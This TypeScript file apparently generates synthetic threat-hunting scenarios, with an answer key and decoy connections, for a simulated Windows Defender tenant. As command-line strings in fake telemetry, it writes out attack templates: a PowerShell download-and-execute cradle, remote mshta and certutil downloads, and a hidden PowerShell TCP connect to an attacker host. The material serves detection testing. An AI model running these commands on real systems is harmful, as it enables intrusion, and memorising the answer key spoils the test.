/**
 * Attack scenarios with their answer key: a process chain on a Windows device that connects out to
 * attacker infrastructure in the last 7 days, present in the hunting tables, and (for ~70%) the alerts
 * Defender raised for it shortly after.
 */
import type { Account, NetEvent, Proc } from './activity.js';
import { NETWORK_SERVICE, SYSTEM } from './activity.js';
import { raiseAlert } from './alerts.js';
import { SCENARIO_ALERTS, TEMPLATE_BY_KEY } from './catalog-alerts.js';
import { BAD_DESTINATIONS, type Image, userImage, WIN } from './catalog-processes.js';
import { type Rng, Stream } from './prng.js';
import { addInjected, type TenantState } from './state.js';
import {
  type DeviceView,
  dayUp,
  hasTelemetry,
  hourUp,
  type Session,
  sessionFor,
  sessionStartMs,
  telemetryWindow,
} from './telemetry.js';
import { DAY, HOUR, iso7, MINUTE, SECOND } from './time.js';
import type { Scenario } from './types.js';

export const SCENARIO_RATE = 0.032;
export const SCENARIO_MIN = 3;
export const SCENARIO_MAX = 2000;

export function scenarioEligible(v: DeviceView): boolean {
  const { t, device } = v;
  return (
    (t.family === 'windows' || t.family === 'windowsServer') &&
    !t.old &&
    device.online &&
    device.machine.healthStatus === 'Active' &&
    hasTelemetry(t, device)
  );
}

const CLIENT_KINDS = [
  'office-macro',
  'mshta-phish',
  'certutil-download',
  'browser-dropper',
  'wmi-ps',
  'rundll32-c2',
] as const;
const SERVER_KINDS = ['rundll32-c2', 'wmi-ps'] as const;

/** A time in the last 7 days when the device is up, ≥ 25 min after its session start. */
function pickTime(v: DeviceView, rng: Rng): { atMs: number; session: Session } | null {
  const now = v.ctx.genNowMs;
  const [start] = telemetryWindow(v.device, now);
  for (let k = 0; k < 40; k++) {
    const at = Math.floor(now - rng.real(45 * MINUTE, 7 * DAY));
    if (at < start + HOUR) continue;
    const day = Math.floor(at / DAY);
    if (!dayUp(v.ctx, v.t, day) || !hourUp(v.ctx, v.t, Math.floor(at / HOUR))) continue;
    if (at < sessionStartMs(v.ctx, v.t, day) + 25 * MINUTE) continue;
    return { atMs: at, session: sessionFor(v, day) };
  }
  return null;
}

function fresh(rng: Rng, img: Image, parent: Proc, cmd: string, account: Account, at: number): Proc {
  const sys = account === SYSTEM || account === NETWORK_SERVICE;
  return {
    image: img,
    pid: 4 * rng.range(100, 16000),
    creationMs: Math.floor(at),
    commandLine: cmd,
    account,
    integrity: sys ? 'System' : 'Medium',
    elevation: sys ? 'TokenElevationTypeDefault' : 'TokenElevationTypeLimited',
    logonId: sys ? 999 : parent.logonId,
    sessionId: sys ? 0 : parent.sessionId,
    parent,
  };
}

/** Build the chain (connection maker first) and which of its members are session processes. */
function buildChain(
  kind: string,
  s: Session,
  at: number,
  rng: Rng,
  host: string,
): { chain: Proc[]; shared: Set<Proc> } | null {
  const r = s.role;
  const u = s.user;
  const shared = new Set<Proc>();
  const use = (p: Proc | undefined): Proc | null => {
    if (!p || p.creationMs >= at - 10 * MINUTE) return null;
    shared.add(p);
    return p;
  };
  switch (kind) {
    case 'office-macro': {
      const explorer = use(r.explorer);
      if (!explorer) return null;
      const doc = `Invoice_${rng.range(1000, 9999)}.docm`;
      const word = fresh(
        rng,
        WIN.winword(),
        explorer,
        `"WINWORD.EXE" /n "C:\\Users\\${u.name}\\Downloads\\${doc}" /o ""`,
        u,
        at - rng.real(2 * MINUTE, 9 * MINUTE),
      );
      const ps = fresh(
        rng,
        WIN.powershell(),
        word,
        `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://${host}/a')"`,
        u,
        at - rng.real(2 * SECOND, 30 * SECOND),
      );
      return { chain: [ps, word, explorer], shared };
    }
    case 'mshta-phish': {
      const explorer = use(r.explorer);
      if (!explorer) return null;
      const outlook =
        use(r.outlook) ??
        fresh(rng, WIN.outlook(), explorer, '"OUTLOOK.EXE"', u, at - rng.real(5 * MINUTE, 9 * MINUTE));
      const mshta = fresh(
        rng,
        WIN.mshta(),
        outlook,
        `mshta.exe https://${host}/invoice.hta`,
        u,
        at - rng.real(2 * SECOND, 40 * SECOND),
      );
      return { chain: [mshta, outlook, explorer], shared };
    }
    case 'certutil-download': {
      const explorer = use(r.explorer);
      if (!explorer) return null;
      const cmd = fresh(
        rng,
        WIN.cmd(),
        explorer,
        'cmd.exe /c certutil -urlcache -split -f',
        u,
        at - rng.real(20 * SECOND, 3 * MINUTE),
      );
      const cu = fresh(
        rng,
        WIN.certutil(),
        cmd,
        `certutil.exe -urlcache -split -f https://${host}/u.bin C:\\Users\\Public\\u.exe`,
        u,
        at - rng.real(1 * SECOND, 10 * SECOND),
      );
      return { chain: [cu, cmd, explorer], shared };
    }
    case 'browser-dropper': {
      const explorer = use(r.explorer);
      const edge = use(r.msedge);
      if (!explorer || !edge) return null;
      const name = `invoice_${rng.range(1000, 9999)}.exe`;
      const dropped = fresh(
        rng,
        userImage(u.name, `Downloads\\${name}`, { company: '', version: '' }),
        edge,
        `"${name}"`,
        u,
        at - rng.real(1 * MINUTE, 5 * MINUTE),
      );
      const rd = fresh(
        rng,
        WIN.rundll32(),
        dropped,
        `rundll32.exe C:\\Users\\${u.name}\\AppData\\Local\\Temp\\${rng.hex(6)}.dll,Start`,
        u,
        at - rng.real(2 * SECOND, 30 * SECOND),
      );
      return { chain: [rd, dropped, edge, explorer], shared };
    }
    case 'wmi-ps': {
      const dcom = use(r.svchostDcom);
      if (!dcom) return null;
      const wmi = fresh(
        rng,
        WIN.wmiprvse(),
        dcom,
        'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
        NETWORK_SERVICE,
        at - rng.real(10 * SECOND, 5 * MINUTE),
      );
      const ps = fresh(
        rng,
        WIN.powershell(),
        wmi,
        `powershell.exe -NoP -NonI -W Hidden -c "$c=New-Object Net.Sockets.TCPClient('${host}',443)"`,
        SYSTEM,
        at - rng.real(2 * SECOND, 9 * SECOND),
      );
      return { chain: [ps, wmi], shared };
    }
    default: {
      const services = use(r.services);
      const svchost = use(r.svchostSched);
      if (!services || !svchost) return null;
      const rd = fresh(
        rng,
        WIN.rundll32(),
        svchost,
        `rundll32.exe C:\\ProgramData\\${rng.hex(8)}\\update.dll,DllRegisterServer`,
        SYSTEM,
        at - rng.real(2 * SECOND, 60 * SECOND),
      );
      return { chain: [rd, svchost, services], shared };
    }
  }
}

/**
 * Decoys for the answer key (DEVIATIONS.md): other processes of the chain talking to the same address — the
 * parent on another port a few minutes around the attack, the chain's root on the same port 6–45 min before,
 * the parent on the same port 6–45 min after (when the clock allows). The scenario's own connection stays the
 * only one on its address and port within ±5 min. Drawn from a stream of their own, so nothing else moves.
 */
function addDecoys(state: TenantState, idx: number, chain: Proc[], net: NetEvent): void {
  const rng = state.ctx.base.rng(Stream.scenario, idx, 2);
  const parent = chain[1];
  const root = chain[chain.length - 1];
  const latest = state.ctx.genNowMs - MINUTE;
  const decoy = (proc: Proc, timeMs: number, remotePort: number) => {
    const at = Math.floor(timeMs);
    if (at <= proc.creationMs + SECOND || at > latest) return;
    addInjected(state, idx, { ...net, timeMs: at, proc, remotePort, localPort: rng.range(49152, 65535) });
  };
  const sign = rng.chance(0.5) ? 1 : -1;
  decoy(parent, net.timeMs + sign * rng.real(MINUTE, 4 * MINUTE), net.remotePort === 443 ? 80 : 443);
  decoy(root, net.timeMs - rng.real(6 * MINUTE, 45 * MINUTE), net.remotePort);
  decoy(parent, net.timeMs + rng.real(6 * MINUTE, 45 * MINUTE), net.remotePort);
}

/** Try to create a scenario on a device; returns it (registered in the state) or null. */
export function generateScenario(state: TenantState, v: DeviceView, ordinal: number): Scenario | null {
  const rng = state.ctx.base.rng(Stream.scenario, v.t.index, 1);
  const picked = pickTime(v, rng);
  if (!picked) return null;
  const kind = v.t.family === 'windows' ? rng.pick(CLIENT_KINDS) : rng.pick(SERVER_KINDS);
  const d = rng.pick(BAD_DESTINATIONS.filter((x) => x.protocol === 'Tcp'));
  const remoteIp = rng.pick(d.ips);
  const built = buildChain(kind, picked.session, picked.atMs, rng, d.url ?? remoteIp);
  if (!built) return null;
  const { chain, shared } = built;
  const at = picked.atMs;
  const net: NetEvent = {
    kind: 'net',
    timeMs: at,
    proc: chain[0],
    action: 'ConnectionSuccess',
    remoteIp,
    remotePort: d.port,
    remoteUrl: d.url,
    localPort: rng.range(49152, 65535),
    protocol: d.protocol,
  };
  const idx = v.t.index;
  for (let k = chain.length - 1; k >= 0; k--) {
    addInjected(state, idx, {
      kind: 'proc',
      timeMs: chain[k].creationMs,
      proc: chain[k],
      shared: shared.has(chain[k]),
    });
  }
  addInjected(state, idx, net);
  addDecoys(state, idx, chain, net);

  const detected = rng.chance(0.7);
  const alertIds: string[] = [];
  if (detected) {
    const spec = SCENARIO_ALERTS[kind];
    const now = state.ctx.genNowMs;
    const keys = spec.secondary && rng.chance(0.6) ? [spec.primary, spec.secondary] : [spec.primary];
    let created = at;
    for (const key of keys) {
      const tpl = TEMPLATE_BY_KEY.get(key);
      if (!tpl) continue;
      created = Math.min(now - MINUTE, created + Math.floor(rng.real(MINUTE, 20 * MINUTE)));
      const a = raiseAlert(state, {
        tpl,
        device: v.device,
        t: v.t,
        activity: { proc: chain[0], parent: chain[1], parentShared: shared.has(chain[1]), net },
        createdMs: created,
        rng,
        triageAtMs: now,
        injectActivity: false,
      });
      alertIds.push(a.id);
    }
  }
  const m = v.device.machine;
  return {
    id: `scenario-${String(ordinal + 1).padStart(4, '0')}`,
    deviceId: m.id,
    deviceName: m.computerDnsName,
    time: iso7(at),
    remoteIp,
    remotePort: d.port,
    remoteUrl: d.url,
    protocol: d.protocol,
    processChain: chain.map((p) => ({
      fileName: p.image.fileName,
      folderPath: p.image.folderPath,
      processId: p.pid,
      commandLine: p.commandLine,
      sha256: p.image.sha256,
      sha1: p.image.sha1,
      accountName: p.account.name,
      accountDomain: p.account.domain,
      creationTime: iso7(p.creationMs),
    })),
    alertIds,
    detected: alertIds.length > 0,
  };
}
